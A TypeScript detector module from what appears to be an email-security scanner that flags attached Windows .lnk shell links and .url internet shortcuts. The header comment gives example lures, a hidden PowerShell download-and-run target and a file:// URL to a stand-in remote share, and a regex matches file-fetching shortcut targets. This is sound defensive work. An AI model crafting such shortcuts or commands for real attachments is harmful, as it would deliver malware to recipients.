/**
 * Shortcut files: Windows shell links (`.lnk`, recognised by their header) and internet
 * shortcuts (`.url`/`.website`, recognised by their `[InternetShortcut]` section). A shell link
 * runs any command line with a document icon; an internet shortcut pointing at `file://`, a
 * UNC share or `search-ms:` fetches and runs remote files (CVE-2024-21412 and relatives).
 *
 * Example threat: `Invoice.pdf.lnk` whose target is `powershell -w hidden -c iwr ...`;
 * `Scan.url` with `URL=file://198.51.100.7@80/share/scan.js`.
 *
 * Known false positives: an internet shortcut to an ordinary web page, dragged from a browser
 * into a mail (counts weaker); shell links are practically never sent on purpose.
 */
import type { SignalDefinition, SignalHit } from '../../core/signal.ts';
import type { Detector } from '../../pipeline/detector.ts';
import { allAttachments, fileEvidence, textOf } from './attachment-facts.ts';

const signals = [
  {
    id: 'ATT_SHELL_LINK',
    group: 'attachments',
    weight: 8,
    indicates: 'malware',
    description: 'A Windows shortcut (.lnk) is attached: it can run any command while looking like a document.',
  },
  {
    id: 'ATT_INTERNET_SHORTCUT',
    group: 'attachments',
    weight: 4,
    indicates: 'malware',
    description: 'An internet shortcut (.url) is attached; pointing at a file share or local handler it fetches and runs remote files.',
  },
] as const satisfies readonly SignalDefinition[];

/** Targets that make Windows fetch and open files rather than show a web page. */
const FILE_FETCHING_TARGET = /^\s*url\s*=\s*(file:|\\\\|search-ms:|search:|ms-\w+:|\w+:\/\/[^\s/]*@\d)/im;

export const shortcutDetector: Detector = {
  id: 'attachments.shortcut',
  stage: 'analyze',
  signals,
  run(ctx) {
    const links: string[] = [];
    const shortcuts: string[] = [];
    let shortcutFactor = 0;
    for (const attachment of allAttachments(ctx)) {
      const ext = attachment.detectedType?.ext;
      if (ext === 'lnk') links.push(fileEvidence(attachment.path));
      if (ext !== 'url') continue;
      const text = textOf(ctx, attachment, 64 * 1024);
      const target = /^\s*url\s*=\s*(.+)$/im.exec(text)?.[1] ?? '';
      const fetches = FILE_FETCHING_TARGET.test(text);
      shortcuts.push(fileEvidence(`${attachment.path} -> ${target}`));
      shortcutFactor = Math.max(shortcutFactor, fetches ? 1 : 0.5);
    }
    const hits: SignalHit[] = [];
    if (links.length > 0) hits.push({ id: 'ATT_SHELL_LINK', evidence: links.slice(0, 5) });
    if (shortcuts.length > 0) hits.push({ id: 'ATT_INTERNET_SHORTCUT', factor: shortcutFactor, evidence: shortcuts.slice(0, 5) });
    return hits;
  },
};
